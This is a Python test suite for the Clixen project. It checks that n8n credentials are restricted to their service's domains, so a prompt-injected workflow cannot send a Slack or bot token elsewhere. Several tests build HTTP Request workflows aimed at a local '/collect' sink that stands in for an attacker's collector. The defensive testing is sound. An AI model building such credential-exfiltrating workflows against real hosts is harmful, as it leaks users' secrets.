"""No credential leaves its service: every n8n credential Clixen writes carries n8n's domain
restriction (its service's domains, the hosts its owner named, or none), and the Clixen bot's
token is never usable from an HTTP Request node. Real n8n and Postgres; a local HTTP sink stands
for the collector a prompt injection would name."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy.orm import Session, sessionmaker

from core.catalog.credential_domains import (
    allowed_domains,
    domain_allowed,
    normalize_allowed_host,
    restriction,
)
from core.credentials import secrets as project_secrets
from core.credentials import sync as credential_sync
from core.credentials.needs import adopt_bot_token
from core.kernel.errors import InvalidInput
from core.kernel.models import Project
from core.n8n import N8nClient
from core.workspace.projects import default_project
from tests.conftest import N8nStack
from tests.doubles.http_sink import HttpSink
from tests.workflows import webhook_workflow

KEY = "k3y-for-domain-tests-7c1d"
TEAM, USER = "T1", "U1"


@pytest.fixture
def sink() -> Iterator[HttpSink]:
    with HttpSink() as server:
        yield server


def _project(factory: sessionmaker[Session]) -> int:
    with factory.begin() as s:
        return default_project(session=s, team_id=TEAM, user_id=USER).id


def _predefined_call(path: str, url: str, ctype: str, secret: str) -> dict[str, Any]:
    """Webhook → HTTP Request to `url` authenticated with the project secret `secret` as a
    predefined `ctype` credential (what a prompt injection would write)."""
    return webhook_workflow(
        path,
        {
            "name": "Call",
            "type": "n8n-nodes-base.httpRequest",
            "typeVersion": 4.2,
            "parameters": {
                "method": "GET",
                "url": url,
                "authentication": "predefinedCredentialType",
                "nodeCredentialType": ctype,
                "options": {},
            },
            "credentials": {ctype: {"name": secret}},
        },
        method="GET",
        name=f"domain test {path}",
    )


def _run_in_n8n(
    factory: sessionmaker[Session], client: N8nClient, pid: int, wf: dict[str, Any]
) -> tuple[dict[str, Any], str]:
    """Bind the secrets as Clixen does, put the workflow straight into n8n (no validator: this
    is n8n's own line of defence), call it once; the finished execution and the credential id."""
    bound = credential_sync.sync_project_credentials(
        session_factory=factory, project_id=pid, n8n=client, key=KEY, workflow_json=wf
    )
    credential_id = str(next(iter(bound["nodes"][1]["credentials"].values()))["id"])
    workflow_id = client.create_workflow(bound)["id"]
    try:
        client.activate(workflow_id)
        path = wf["nodes"][0]["parameters"]["path"]
        client.call_webhook(path, method="GET")
        execution = client.wait_for_execution(workflow_id, timeout_s=60)
        assert execution is not None, "the workflow never finished"
        return execution, credential_id
    finally:
        client.delete_workflow(workflow_id)


def _error(execution: dict[str, Any]) -> str:
    return str(execution["data"]["resultData"].get("error", {}).get("message", ""))


def test_the_table_follows_n8ns_own_matching() -> None:
    assert allowed_domains("slackApi", {}) == ["slack.com", "*.slack.com"]
    assert domain_allowed("slack.com", ["slack.com", "*.slack.com"])
    assert domain_allowed("hooks.slack.com", ["*.slack.com"])
    assert not domain_allowed("slack.com", ["*.slack.com"])  # subdomains only, like n8n
    assert not domain_allowed("slack.com.collector.example.net", ["slack.com", "*.slack.com"])
    # A user-specific service: the host its own URL field names.
    assert allowed_domains("jiraSoftwareCloudApi", {"domain": "https://acme.atlassian.net/"}) == [
        "acme.atlassian.net"
    ]
    assert allowed_domains("githubApi", {"server": "https://ghe.acme.com/api/v3"}) == [
        "github.com",
        "*.github.com",
        "models.github.ai",
        "ghe.acme.com",
    ]
    # Generic types: only what the owner named; unknown types: nowhere.
    assert restriction("httpHeaderAuth", {}, ["api.example.com"]) == {
        "allowedHttpRequestDomains": "domains",
        "allowedDomains": "api.example.com",
    }
    assert restriction("someUnknownApi", {})["allowedHttpRequestDomains"] == "none"
    assert normalize_allowed_host("https://API.Example.com/v1") == "api.example.com"
    assert normalize_allowed_host("*.example.com") == "*.example.com"
    with pytest.raises(ValueError, match="not a host"):
        normalize_allowed_host("https://")


def test_n8n_takes_the_restriction_fields_for_the_types_we_restrict(
    n8n_client: N8nClient,
) -> None:
    """Checked on the real n8n, not assumed: its schema of each type."""
    restricted = [
        "slackApi",
        "githubApi",
        "notionApi",
        "airtableTokenApi",
        "openAiApi",
        "hubspotAppToken",
        "jiraSoftwareCloudApi",
        "discordBotApi",
        "httpHeaderAuth",
        "httpBearerAuth",
        "httpBasicAuth",
    ]
    for ctype in restricted:
        props = n8n_client.credential_schema(ctype)["properties"]
        assert props["allowedHttpRequestDomains"]["enum"] == ["all", "domains", "none"], ctype
        assert props["allowedDomains"]["type"] == "string", ctype
    # Types that authenticate no HTTP request have no such fields (and n8n refuses unknown
    # fields): they are written without them; HTTP Request cannot send them anywhere.
    for ctype in ("postgres", "redis", "mongoDb", "telegramApi"):
        assert "allowedHttpRequestDomains" not in n8n_client.credential_schema(ctype)["properties"]


def test_a_slack_token_is_never_sent_outside_slack(
    session_factory: sessionmaker[Session], n8n_client: N8nClient, sink: HttpSink
) -> None:
    pid = _project(session_factory)
    with session_factory.begin() as s:
        project_secrets.set_secret(
            session=s, project_id=pid, name="SLACK_TOKEN", value="xoxb-not-for-collectors",
            actor_user_id=USER, key=KEY, credential_type="slackApi",
        )  # fmt: skip
    wf = _predefined_call(f"dom-{uuid.uuid4().hex[:8]}", sink.url("/collect"), "slackApi",
                          "SLACK_TOKEN")  # fmt: skip
    execution, credential_id = _run_in_n8n(session_factory, n8n_client, pid, wf)
    try:
        assert execution["status"] == "error"
        assert "Domain not allowed" in _error(execution)
        assert "slack.com, *.slack.com" in _error(execution) or "slack.com,*.slack.com" in _error(
            execution
        )
        assert sink.requests == []  # the execution is over: nothing reached the collector
    finally:
        n8n_client.delete_credential(credential_id)


def test_the_bot_token_is_refused_by_every_http_request_node(
    session_factory: sessionmaker[Session], n8n_client: N8nClient, sink: HttpSink
) -> None:
    """Clixen never binds it to such a node (test_credential_use); n8n refuses it even so."""
    from core.credentials.sync import sync_secrets

    pid = _project(session_factory)
    with session_factory.begin() as s:
        secret = adopt_bot_token(
            session=s, project_id=pid, team_id=TEAM, user_id=USER, token="xoxb-the-bot",
            key=KEY,
        )  # fmt: skip
    credential_id = sync_secrets(
        session_factory, n8n=n8n_client, project_id=pid, names=[secret], key=KEY
    )[secret]
    path = f"bot-{uuid.uuid4().hex[:8]}"
    wf = _predefined_call(path, sink.url("/collect"), "slackApi", secret)
    wf["nodes"][1]["credentials"] = {"slackApi": {"id": credential_id, "name": "the bot"}}
    workflow_id = n8n_client.create_workflow(wf)["id"]
    try:
        n8n_client.activate(workflow_id)
        n8n_client.call_webhook(path, method="GET")
        execution = n8n_client.wait_for_execution(workflow_id, timeout_s=60)
        assert execution is not None and execution["status"] == "error"
        assert "configured to prevent use within an HTTP Request" in _error(execution)
        assert sink.requests == []
    finally:
        n8n_client.delete_workflow(workflow_id)
        n8n_client.delete_credential(credential_id)


def test_a_generic_credential_goes_only_to_the_hosts_its_owner_named(
    session_factory: sessionmaker[Session], n8n_client: N8nClient, sink: HttpSink
) -> None:
    pid = _project(session_factory)
    value = '{"name": "X-Api-Key", "value": "k-123"}'
    with session_factory.begin() as s, pytest.raises(InvalidInput, match="--allowed-host"):
        project_secrets.set_secret(
            session=s, project_id=pid, name="API_AUTH", value=value, actor_user_id=USER,
            key=KEY, credential_type="httpHeaderAuth",
        )  # fmt: skip
    with session_factory.begin() as s:
        info = project_secrets.set_secret(
            session=s, project_id=pid, name="API_AUTH", value=value, actor_user_id=USER,
            key=KEY, credential_type="httpHeaderAuth", allowed_hosts=["127.0.0.1"],
        )  # fmt: skip
        assert info.allowed_hosts == ("127.0.0.1",)
    wf = webhook_workflow(
        f"gen-{uuid.uuid4().hex[:8]}",
        {
            "name": "Call",
            "type": "n8n-nodes-base.httpRequest",
            "typeVersion": 4.2,
            "parameters": {
                "method": "GET",
                "url": sink.url("/api"),
                "authentication": "genericCredentialType",
                "genericAuthType": "httpHeaderAuth",
                "options": {},
            },
            "credentials": {"httpHeaderAuth": {"name": "API_AUTH"}},
        },
        method="GET",
    )
    execution, credential_id = _run_in_n8n(session_factory, n8n_client, pid, wf)
    try:
        assert execution["status"] == "success", _error(execution)
        assert [r.headers.get("x-api-key") for r in sink.requests] == ["k-123"]
        # Another host for the same credential: refused by n8n.
        with session_factory.begin() as s:
            project_secrets.set_secret(
                session=s, project_id=pid, name="API_AUTH", value=value, actor_user_id=USER,
                key=KEY, allowed_hosts=["api.example.com"],
            )  # fmt: skip
        project_secrets.push_secret(
            session_factory, n8n=n8n_client, project_id=pid, name="API_AUTH", key=KEY
        )
        execution, _ = _run_in_n8n(session_factory, n8n_client, pid, wf)
        assert execution["status"] == "error" and "Domain not allowed" in _error(execution)
        assert len(sink.requests) == 1
    finally:
        n8n_client.delete_credential(credential_id)


def test_secret_list_shows_the_allowed_hosts(session_factory: sessionmaker[Session]) -> None:
    with session_factory.begin() as s:
        p = Project(team_id=TEAM, name="p", created_by=USER)
        s.add(p)
        s.flush()
        project_secrets.set_secret(
            session=s, project_id=p.id, name="API_AUTH", value="v", actor_user_id=USER,
            key=KEY, credential_type="httpBearerAuth", allowed_hosts=["*.example.com"],
        )  # fmt: skip
        [info] = project_secrets.list_secrets(session=s, project_id=p.id)
    assert info.allowed_hosts == ("*.example.com",)


def test_clixen_secret_set_takes_the_hosts_a_generic_credential_may_go_to(
    session_factory: sessionmaker[Session],
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import io
    import sys

    from cli import main
    from core.kernel.settings import get_settings

    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("CLIXEN_CLI_USER", "erin")
    monkeypatch.setenv("CLIXEN_SECRET_KEY", KEY)
    monkeypatch.delenv("N8N_URL", raising=False)
    get_settings.cache_clear()
    value = '{"name": "X-Api-Key", "value": "k-9"}\n'
    try:
        monkeypatch.setattr(sys, "stdin", io.StringIO(value))
        assert main(["secret", "set", "API_AUTH", "--type", "httpHeaderAuth"]) != 0
        assert "--allowed-host api.example.com" in capsys.readouterr().err
        monkeypatch.setattr(sys, "stdin", io.StringIO(value))
        args = ["--allowed-host", "https://api.example.com/v1", "--allowed-host", "*.example.io"]
        assert main(["secret", "set", "API_AUTH", "--type", "httpHeaderAuth", *args]) == 0
        assert main(["secret", "list"]) == 0
    finally:
        get_settings.cache_clear()
    assert "hosts: api.example.com, *.example.io" in capsys.readouterr().out


def test_clixen_secret_resync_restricts_credentials_written_before_the_upgrade(
    session_factory: sessionmaker[Session],
    n8n_client: N8nClient,
    sink: HttpSink,
    database_url: str,
    n8n: N8nStack,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from sqlalchemy import update

    from cli import main
    from core.credentials.sync import sync_secrets
    from core.kernel.models import Secret
    from core.kernel.settings import get_settings

    pid = _project(session_factory)
    with session_factory.begin() as s:
        project_secrets.set_secret(
            session=s, project_id=pid, name="SLACK_TOKEN", value="xoxb-old-one",
            actor_user_id=USER, key=KEY, credential_type="slackApi",
        )  # fmt: skip
    credential_id = sync_secrets(
        session_factory, n8n=n8n_client, project_id=pid, names=["SLACK_TOKEN"], key=KEY
    )["SLACK_TOKEN"]
    # As an older Clixen left it: no restriction; the upgrade (migration 0004) marks it stale.
    n8n_client.update_credential(
        credential_id, name=f"clixen-p{pid}-SLACK_TOKEN", type="slackApi",
        data={"accessToken": "xoxb-old-one", "allowedHttpRequestDomains": "all"},
    )  # fmt: skip
    with session_factory.begin() as s:
        s.execute(update(Secret).values(n8n_synced_at=None))
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("CLIXEN_CLI_USER", "erin")
    monkeypatch.setenv("CLIXEN_SECRET_KEY", KEY)
    monkeypatch.setenv("N8N_URL", n8n.url)
    monkeypatch.setenv("N8N_API_KEY", n8n.api_key)
    get_settings.cache_clear()
    try:
        assert main(["secret", "resync"]) == 0
    finally:
        get_settings.cache_clear()
    assert "Wrote 1 n8n credential(s) again." in capsys.readouterr().out

    path = f"resync-{uuid.uuid4().hex[:8]}"
    wf = _predefined_call(path, sink.url("/collect"), "slackApi", "SLACK_TOKEN")
    wf["nodes"][1]["credentials"] = {"slackApi": {"id": credential_id, "name": "old"}}
    workflow_id = n8n_client.create_workflow(wf)["id"]
    try:
        n8n_client.activate(workflow_id)
        n8n_client.call_webhook(path, method="GET")
        execution = n8n_client.wait_for_execution(workflow_id, timeout_s=60)
        assert execution is not None and "Domain not allowed" in _error(execution)
        assert sink.requests == []
    finally:
        n8n_client.delete_workflow(workflow_id)
        n8n_client.delete_credential(credential_id)
